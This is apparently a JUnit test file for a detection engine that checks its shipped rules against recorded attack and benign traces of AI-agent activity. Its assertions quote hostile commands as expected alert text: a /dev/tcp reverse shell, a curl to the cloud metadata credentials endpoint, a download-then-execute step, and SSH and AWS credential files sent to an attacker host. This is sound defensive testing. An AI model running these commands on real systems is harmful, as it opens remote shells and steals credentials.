package dev.peregrine.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.peregrine.alerting.Alert;
import dev.peregrine.collector.event.Event;
import dev.peregrine.collector.event.FieldRegistry;
import dev.peregrine.collector.ndjson.LineRejectedException;
import dev.peregrine.collector.ndjson.NdjsonParser;
import dev.peregrine.engine.DetectionEngine;
import dev.peregrine.engine.cep.CepCompiler;
import dev.peregrine.engine.cep.CepProgram;
import dev.peregrine.engine.rules.CepRuleDef;
import dev.peregrine.engine.rules.RuleDef;
import dev.peregrine.engine.rules.RuleFile;
import dev.peregrine.engine.rules.RuleLoadException;
import dev.peregrine.engine.rules.RuleLoader;
import dev.peregrine.engine.rules.RuleSet;
import dev.peregrine.engine.slopsquat.AllowList;
import dev.peregrine.engine.slopsquat.PackageChecker;
import dev.peregrine.engine.slopsquat.SlopsquatDetector;
import dev.peregrine.engine.slopsquat.SnapshotPackageIntel;
import dev.peregrine.engine.time.ReorderBuffer;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The shipped rule set, loaded from the classpath through index.txt as the application loads it,
 * against recorded traces: for every enabled rule and cep item,
 * {@code traces/<id>/attack.ndjson} must raise it and {@code traces/<id>/benign.ndjson} - a close
 * look-alike - must not. Traces run through the {@link DetectionEngine} with the slopsquat
 * detection behind the rules, so cep items see the per-event rules' matches and the slopsquat
 * findings as signals, in event time, as in the application.
 */
class ShippedRulesTest {

    private static final String TRACES = "traces/";

    private static final CepCompiler COMPILER = new CepCompiler(FieldRegistry.standard());

    private static RuleSet rules;
    private static CepProgram program;
    private static PackageChecker packages;

    @BeforeAll
    static synchronized void loadShippedRules() throws RuleLoadException {
        if (program != null) {
            return; // another test class of this package replayed first
        }
        rules = load();
        program = COMPILER.compile(rules.activeCepRules());
        packages = new PackageChecker(SnapshotPackageIntel.loadShipped(), AllowList.empty());
    }

    @Test
    void shippedRulesLoadWithoutErrorsOrWarnings() {
        final RuleSet loaded;
        try {
            loaded = load();
        } catch (final RuleLoadException e) {
            fail("shipped rules do not load:%n%s", e.getMessage());
            return;
        }
        assertThat(loaded.warnings()).isEmpty();
        assertThat(loaded.rules()).hasSizeGreaterThanOrEqualTo(15);
        assertThat(loaded.rules()).allSatisfy(rule -> assertThat(rule.enabled()).as(rule.id()).isTrue());
        assertThat(loaded.cepRules()).extracting(CepRuleDef::id).contains("tool_approval_bypass",
                "download_then_execute", "shell_then_metadata", "credential_read_then_egress", "slopsquat_escalation");
        assertThat(loaded.cepRules()).allSatisfy(cep -> assertThat(cep.enabled()).as(cep.id()).isTrue());
    }

    @Test
    void everyEnabledRuleHasAnAttackAndABenignTrace() {
        final List<String> missing = new ArrayList<>();
        for (final String id : enabledRuleIds().toList()) {
            for (final String kind : List.of("attack", "benign")) {
                final String trace = TRACES + id + "/" + kind + ".ndjson";
                if (ShippedRulesTest.class.getClassLoader().getResource(trace) == null) {
                    missing.add(trace);
                }
            }
        }
        assertThat(missing).as("rules without traces").isEmpty();
    }

    @ParameterizedTest(name = "{0}: attack trace raises it")
    @MethodSource("enabledRuleIds")
    void attackTraceRaisesTheRule(final String ruleId) {
        final List<Alert> alerts = replay(TRACES + ruleId + "/attack.ndjson");

        assertThat(alerts).extracting(Alert::ruleId).contains(ruleId);
    }

    @ParameterizedTest(name = "{0}: benign look-alike does not raise it")
    @MethodSource("enabledRuleIds")
    void benignTraceDoesNotRaiseTheRule(final String ruleId) {
        final List<Alert> alerts = replay(TRACES + ruleId + "/benign.ndjson");

        assertThat(alerts).filteredOn(alert -> alert.ruleId().equals(ruleId))
                .as("alerts of %s on its benign trace", ruleId)
                .isEmpty();
    }

    @Test
    void reverseShellAlertNamesTheAgentSessionAndCommand() {
        final Alert alert = first("reverse_shell", replay(TRACES + "reverse_shell/attack.ndjson"));

        assertThat(alert.output())
                .startsWith("Reverse shell command executed")
                .contains("agent=triage-bot")
                .contains("session=s-5c0d77")
                .contains("sandbox=sbx-a0c431")
                .contains("/dev/tcp/203.0.113.45/4444");
        assertThat(alert.priority().toString()).isEqualToIgnoringCase("critical");
        assertThat(alert.tags()).contains("maturity_stable", "T1059");
        assertThat(alert.agent()).isEqualTo("triage-bot");
        assertThat(alert.session()).isEqualTo("s-5c0d77");
    }

    @Test
    void deniedToolCallAlertNamesToolActionResourceAndReason() {
        final Alert alert = first("agent_tool_call_denied", replay(TRACES + "agent_tool_call_denied/attack.ndjson"));

        assertThat(alert.source()).isEqualTo("agent");
        assertThat(alert.output())
                .contains("agent=ci-runner session=s-8f2c01")
                .contains("tool=github action=git:push resource=repos/acme/api/branches/main")
                .contains("reason=policy: protected branch");
        assertThat(alert.outputFields()).containsEntry("agent.id", "ci-runner");
    }

    @Test
    void secretFileAlertNamesTheFileAndTheProcess() {
        final Alert alert = first("read_ssh_private_key", replay(TRACES + "read_ssh_private_key/attack.ndjson"));

        assertThat(alert.output())
                .contains("file=/home/agent/.ssh/id_ed25519")
                .contains("process=cat")
                .contains("agent=dev-assistant session=s-4f0e2a");
    }

    @Test
    void egressAllowListAdmitsAllowedHostsOnlyOnAWholeHostName() {
        // https://api.github.com is allowed; https://api.github.com.attacker.example is not.
        final List<Alert> alerts = replay(TRACES + "agent_http_egress_not_allowlisted/attack.ndjson");

        assertThat(alerts).filteredOn(a -> a.ruleId().equals("agent_http_egress_not_allowlisted"))
                .extracting(Alert::output)
                .anySatisfy(output -> assertThat(output).contains("url=https://api.github.com.attacker.example/"));
    }

    @Test
    void shellThenMetadataAlertNamesTheShellCommandAndTheMetadataTarget() {
        final Alert alert = first("shell_then_metadata", replay(TRACES + "shell_then_metadata/attack.ndjson"));

        assertThat(alert.output())
                .startsWith("Agent shell followed by cloud metadata access")
                .contains("agent=infra-agent session=s-71cd2f")
                .contains("shell_command=bash -c curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
                .contains("metadata=10.244.3.17:48712->169.254.169.254:80 via=cloud_metadata_connect")
                .contains("shell_at=2026-11-22T10:15:03.100000000Z");
        assertThat(alert.firstSeenNanos()).isLessThan(alert.lastSeenNanos());
        assertThat(alert.session()).isEqualTo("s-71cd2f");
        assertThat(alert.tags()).contains("maturity_incubating", "T1552.005");
    }

    @Test
    void credentialThenEgressAlertNamesTheSecretAndTheDestination() {
        final List<Alert> alerts = replay(TRACES + "credential_read_then_egress/attack.ndjson");

        assertThat(alerts).filteredOn(a -> a.ruleId().equals("credential_read_then_egress")).singleElement()
                .satisfies(alert -> assertThat(alert.output())
                        .contains("secret=/home/agent/.aws/credentials destination=paste.attacker.example")
                        .contains("via=egress_not_allowlisted"));
    }

    @Test
    void downloadedFileExecutedAlertNamesTheFileAndBothCommands() {
        final Alert alert = first("download_then_execute", replay(TRACES + "download_then_execute/attack.ndjson"));

        assertThat(alert.output())
                .contains("file=/tmp/.cache/agent-helper")
                .contains("download_command=curl -fsSL -o /tmp/.cache/agent-helper https://dl.helper-tools.example/agent-helper")
                .contains("command=agent-helper --register");
    }

    @Test
    void replayingAllCepTracesAsOneStreamGivesTheSameAlertsAsEachAlone() {
        final List<Alert> separately = new ArrayList<>();
        final List<Event> together = new ArrayList<>();
        for (final String id : program.ruleIds()) {
            final List<Event> attack = events(TRACES + id + "/attack.ndjson");
            separately.addAll(replay(attack).stream().filter(a -> a.ruleId().equals(id)).toList());
            together.addAll(attack);
        }
        together.sort(java.util.Comparator.comparingLong(Event::timeNanos));

        final List<Alert> merged = replay(together).stream().filter(a -> program.ruleIds().contains(a.ruleId())).toList();

        assertThat(merged).containsExactlyInAnyOrderElementsOf(separately);
    }

    static Stream<String> enabledRuleIds() {
        if (rules == null) {
            try {
                rules = load();
            } catch (final RuleLoadException e) {
                throw new IllegalStateException(e.getMessage(), e);
            }
        }
        return Stream.concat(rules.rules().stream().filter(RuleDef::enabled).map(RuleDef::id),
                rules.activeCepRules().stream().map(CepRuleDef::id));
    }

    private static RuleSet load() throws RuleLoadException {
        final List<RuleFile> files = ShippedRules.files().stream()
                .map(file -> new RuleFile(ShippedRules.DIRECTORY + file, ShippedRules.text(file)))
                .toList();
        return new RuleLoader(FieldRegistry.standard(), COMPILER).loadFiles(files);
    }

    private static Alert first(final String ruleId, final List<Alert> alerts) {
        return alerts.stream().filter(a -> a.ruleId().equals(ruleId)).findFirst()
                .orElseThrow(() -> new AssertionError("no alert of " + ruleId + " in " + alerts));
    }

    /** Every alert the shipped rules raise on the trace; a trace line that does not parse fails the test. */
    static List<Alert> replay(final String resource) {
        return replay(events(resource));
    }

    /** Every alert the shipped rules and cep items raise on {@code events}, fed as a replay feeds them. */
    static List<Alert> replay(final List<Event> events) {
        try {
            loadShippedRules();
        } catch (final RuleLoadException e) {
            throw new IllegalStateException(e.getMessage(), e);
        }
        final DetectionEngine engine = new DetectionEngine(rules, program, List.of(new SlopsquatDetector(packages)),
                ReorderBuffer.DEFAULT_ALLOWED_LATENESS);
        try {
            final List<Alert> alerts = new ArrayList<>();
            for (final Event event : events) {
                engine.onEvent(event, alerts::add);
            }
            engine.endOfInput(alerts::add);
            assertThat(engine.failures()).as("detector failures").isEmpty();
            return alerts;
        } finally {
            engine.close();
        }
    }

    static List<Event> events(final String resource) {
        final NdjsonParser parser = new NdjsonParser();
        final List<Event> events = new ArrayList<>();
        final String text;
        try (InputStream in = ShippedRules.resource(resource)) {
            text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (final IOException e) {
            throw new AssertionError("cannot read " + resource, e);
        }
        int lineNumber = 0;
        for (final String line : text.split("\n")) {
            lineNumber++;
            if (line.isBlank()) {
                continue;
            }
            final byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
            try {
                events.add(parser.parse(bytes, 0, bytes.length));
            } catch (final LineRejectedException e) {
                throw new AssertionError(resource + ":" + lineNumber + ": trace line rejected: " + e.getMessage(), e);
            }
        }
        return events;
    }
}
